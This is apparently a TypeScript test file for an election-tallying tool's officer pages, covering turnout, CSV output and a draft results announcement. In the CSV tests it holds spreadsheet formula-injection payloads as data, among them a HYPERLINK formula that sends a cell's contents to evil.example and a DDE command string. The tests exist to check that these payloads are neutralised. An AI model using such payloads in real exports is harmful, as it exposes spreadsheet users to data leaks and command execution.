// The pure parts of the officer area: turnout by login, days filled for the chart,
// colour buckets of the matrix, the CSV cells, the shuffle, and the draft results.md.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomInt } from 'node:crypto';
import { CSV_EOL, columnOrder, csvBallotLine, csvCell, csvHeader, shuffle } from '../../src/core/officer/ballotsCsv.js';
import { longDate, ordinal, percent, resultsDraft } from '../../src/core/officer/resultsDraft.js';
import { fillDays, pairwiseBucket, turnoutOf } from '../../src/core/officer/turnout.js';
import { NO_OPINION_RANK, countCsv, tallyBallots } from '../../src/core/tally/index.js';
import { votersCsv } from '../../src/app/officer/overview.js';
import { niceCeil } from '../../src/views/officer/VotesChart.js';

test('turnout compares logins case-insensitively, counts duplicates once, and keeps off-list voters apart', () => {
  const t = turnoutOf(['Alice', 'bob', 'ALICE', 'Carol', 'dave'], ['alice', 'CAROL', 'zed'], 2);
  assert.equal(t.eligible, 4);
  assert.equal(t.voted, 2);
  assert.equal(t.votedOffList, 3, 'zed and two rows without a login');
  assert.deepEqual(t.lines, [
    { login: 'bob', voted: false },
    { login: 'dave', voted: false },
    { login: 'Alice', voted: true },
    { login: 'Carol', voted: true },
  ]);
});

test('days are filled from the opening to today within the window, widened by votes outside it', () => {
  const start = new Date('2026-05-01T10:00:00Z');
  const end = new Date('2026-05-04T00:00:00Z');
  const days = (counts: Array<{ day: string; votes: number }>, now: string) =>
    fillDays(counts, start, end, new Date(now)).map((d) => `${d.day.slice(5)}:${d.votes}`);
  assert.deepEqual(days([], '2026-04-30T00:00:00Z'), [], 'nothing before the opening');
  assert.deepEqual(days([], '2026-05-01T10:00:00Z'), ['05-01:0']);
  assert.deepEqual(days([{ day: '2026-05-02', votes: 3 }], '2026-05-02T08:00:00Z'), ['05-01:0', '05-02:3']);
  // After the end: the last day is the one holding end − 1 s (May 3), not May 4.
  assert.deepEqual(days([{ day: '2026-05-03', votes: 1 }], '2026-06-01T00:00:00Z'), ['05-01:0', '05-02:0', '05-03:1']);
  // Votes recorded outside the window (an Elekto clock, a moved window) still show.
  assert.deepEqual(
    days(
      [
        { day: '2026-04-30', votes: 1 },
        { day: '2026-05-05', votes: 2 },
      ],
      '2026-06-01T00:00:00Z',
    ),
    ['04-30:1', '05-01:0', '05-02:0', '05-03:0', '05-04:0', '05-05:2'],
  );
  assert.deepEqual(days([{ day: 'garbage', votes: 9 }], '2026-05-01T12:00:00Z'), ['05-01:0']);
  const long = fillDays(
    [
      { day: '2020-01-01', votes: 1 },
      { day: '2026-05-02', votes: 2 },
    ],
    start,
    end,
    new Date('2026-06-01T00:00:00Z'),
  );
  assert.deepEqual(
    long,
    [
      { day: '2020-01-01', votes: 1 },
      { day: '2026-05-02', votes: 2 },
    ],
    'years apart: only the days with votes',
  );
});

test('matrix buckets follow the head-to-head margin as a share of the ballots', () => {
  assert.equal(pairwiseBucket(5, 5, 10), 'even');
  assert.equal(pairwiseBucket(6, 5, 100), 'win-1');
  assert.equal(pairwiseBucket(5, 6, 100), 'loss-1');
  assert.equal(pairwiseBucket(30, 15, 100), 'win-2');
  assert.equal(pairwiseBucket(60, 20, 100), 'win-3');
  assert.equal(pairwiseBucket(0, 2, 2), 'loss-3');
  assert.equal(pairwiseBucket(0, 0, 0), 'even');
});

test('CSV cells: quoted only when needed; no opinion written out; ranks as stored', () => {
  assert.equal(csvCell('ada'), 'ada');
  assert.equal(csvCell('Smith, Jane'), '"Smith, Jane"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell(' padded'), '" padded"');
  assert.equal(csvHeader(['a', 'b,c']), 'a,"b,c"');
  assert.equal(
    csvBallotLine(
      ['a', 'b', 'c', 'd'],
      [
        { candidate: 'c', rank: 1 },
        { candidate: 'a', rank: 2 },
        { candidate: 'b', rank: NO_OPINION_RANK },
      ],
    ),
    '2,No opinion,1,No opinion',
  );
});

/** Cells of a CSV line as a spreadsheet splits them (RFC 4180 quotes). */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)) {
    if (m.index === line.length && cells.length > 0) break;
    cells.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replaceAll('""', '"') : m[1]!);
  }
  return cells;
}

/** What a spreadsheet would evaluate: a cell starting with = + - @, a tab or a CR (OWASP). */
const FORMULA_START = /^[=+\-@\t\r]/;

test('CSV cells never start a spreadsheet formula: = + - @ tab CR get an apostrophe and quotes (OWASP)', () => {
  const cases: [string, string][] = [
    ['=HYPERLINK("https://evil.example","x")', '"\'=HYPERLINK(""https://evil.example"",""x"")"'],
    ['+1', '"\'+1"'],
    ['-2+3', '"\'-2+3"'],
    ['@SUM(A1)', '"\'@SUM(A1)"'],
    ['\tcmd', '"\'\tcmd"'],
    ['\r=1', '"\'\r=1"'],
    // Already starting with apostrophes: one more, so reading back removes exactly one.
    ["'=x", '"\'\'=x"'],
    // Not formulas: left alone.
    ["it's", "it's"],
    ["'quoted'", "'quoted'"],
    ['a=b', 'a=b'],
    ['me@example.org', 'me@example.org'],
    ['x-y', 'x-y'],
  ];
  for (const [raw, written] of cases) {
    assert.equal(csvCell(raw), written, JSON.stringify(raw));
    assert.doesNotMatch(cellsOf(written)[0]!, FORMULA_START, JSON.stringify(raw));
  }
});

test('a ballots CSV with formula-like candidate IDs is safe in a spreadsheet and counts back to the same IDs', () => {
  const ids = [
    '=HYPERLINK("https://evil.example/?"&A1,"Vote")',
    '+cmd',
    '-2+3',
    '@SUM(1)',
    '\tTab',
    "'=quoted",
    "''+two",
    'plain',
    "it's",
    'a,b',
  ];
  const columns = columnOrder(ids);
  const csv =
    [
      csvHeader(columns),
      csvBallotLine(
        columns,
        columns.map((candidate, i) => ({ candidate, rank: i + 1 })),
      ),
    ].join(CSV_EOL) + CSV_EOL;
  for (const cell of cellsOf(csv.split(CSV_EOL)[0]!)) assert.doesNotMatch(cell, FORMULA_START, cell);
  const counted = countCsv(csv);
  assert.deepEqual(counted.candidates, columns);
  assert.equal(counted.counter.ballots, 1);
});

test('the voters CSV neutralises formulas and quotes what needs it, whatever voters.yaml holds', () => {
  const csv = votersCsv(turnoutOf(["=cmd|' /C calc'!A0", 'ada', '@admin', 'Jane "JD" Doe'], ['ada'], 0));
  const lines = csv.split(CSV_EOL);
  assert.equal(lines[0], 'login,voted');
  for (const line of lines.slice(1, -1)) assert.doesNotMatch(cellsOf(line)[0]!, FORMULA_START, line);
  assert.ok(lines.includes("\"'=cmd|' /C calc'!A0\",no"), csv);
  assert.ok(lines.includes('"\'@admin",no'), csv);
  assert.ok(lines.includes('"Jane ""JD"" Doe",no'), csv);
  assert.ok(lines.includes('ada,yes'), csv);
});

test('the shuffle is a permutation, and every position is reachable', () => {
  // With the real source: missing a first position in 200 draws has odds of about 1e-19.
  const random = (n: number) => randomInt(n);
  const seenFirst = new Set<number>();
  for (let i = 0; i < 200; i++) {
    const out = shuffle([0, 1, 2, 3, 4], random);
    assert.deepEqual([...out].sort(), [0, 1, 2, 3, 4]);
    seenFirst.add(out[0]!);
  }
  assert.equal(seenFirst.size, 5);
  assert.deepEqual(shuffle([], random), []);
});

test('ordinals, percentages, dates and axis tops as the pages write them', () => {
  assert.deepEqual([1, 2, 3, 4, 11, 12, 13, 21, 22, 23, 101, 111].map(ordinal), [
    '1st',
    '2nd',
    '3rd',
    '4th',
    '11th',
    '12th',
    '13th',
    '21st',
    '22nd',
    '23rd',
    '101st',
    '111th',
  ]);
  assert.equal(percent(4, 5), '80%');
  assert.equal(percent(2, 3), '66.7%');
  assert.equal(percent(0, 0), null);
  assert.equal(longDate(new Date('2021-01-11T23:59:59Z')), 'January 11, 2021');
  assert.deepEqual([0, 1, 2, 3, 7, 10, 11, 45, 99, 100, 101].map(niceCeil), [1, 1, 2, 5, 10, 10, 20, 50, 100, 100, 200]);
});

test('the draft results.md reads like the Kubernetes announcements, with every place and the tie', () => {
  // 5 ballots for 2 seats: A first; B and C level; D last; one ballot without preference.
  const ballots = [
    { a: 1, b: 2, c: 3, d: 4 },
    { a: 1, b: 3, c: 2, d: 4 },
    { a: 1, b: 2, c: 3, d: 4 },
    { a: 1, b: 3, c: 2, d: 4 },
    { a: null, b: null, c: null, d: null },
  ];
  const result = tallyBallots(['a', 'b', 'c', 'd'], ballots, 2);
  const draft = resultsDraft({
    name: 'Steering *2026*',
    start: new Date('2026-05-01T00:00:00Z'),
    end: new Date('2026-05-15T00:00:00Z'),
    eligible: 8,
    result,
    abstentions: 1,
    names: new Map([
      ['a', 'Ada <A>'],
      ['b', 'Bo'],
      ['c', 'Cy'],
      ['d', 'Di'],
    ]),
  });
  assert.equal(
    draft,
    [
      "<!-- Draft from Scrutin's officer page: review it, then commit it as results.md in the election's folder. -->",
      '',
      '## Steering \\*2026\\*',
      '',
      'This election ran from May 1, 2026 to May 15, 2026, for 2 seats.',
      '',
      'There were 8 eligible voters. 5 ballots were cast, which is 62.5% participation.',
      '',
      '## Winners',
      '',
      '- Ada \\<A\\>',
      '',
      '**Tie for seat 2:** Bo and Cy are tied. The election officers break the tie by their own rules: <!-- say how, and who won -->',
      '',
      '## Ranking',
      '',
      '1st: Ada \\<A\\>',
      '',
      '2nd: tie between Bo and Cy',
      '',
      '4th: Di',
      '',
      'Counted with the Schulze method (winning votes): 5 ballots, 1 of which expresses no preference.',
      '',
    ].join('\n'),
  );

  const single = resultsDraft({
    name: 'GB',
    start: new Date('2021-01-11T00:00:00Z'),
    end: new Date('2021-01-13T00:00:00Z'),
    eligible: 7,
    result: tallyBallots(['p', 'q'], [{ p: 1, q: 2 }], 1),
    abstentions: 0,
    names: new Map([['p', 'Paris Pittman']]),
  });
  assert.match(single, /^## Winner: Paris Pittman$/m);
  assert.match(single, /^There were 7 eligible voters\. 1 ballot was cast, which is 14\.3% participation\.$/m);
  assert.match(single, /^2nd: q$/m, 'a candidate without a name is shown by ID');
  assert.match(single, /^Counted with the Schulze method \(winning votes\): 1 ballot\.$/m);
});
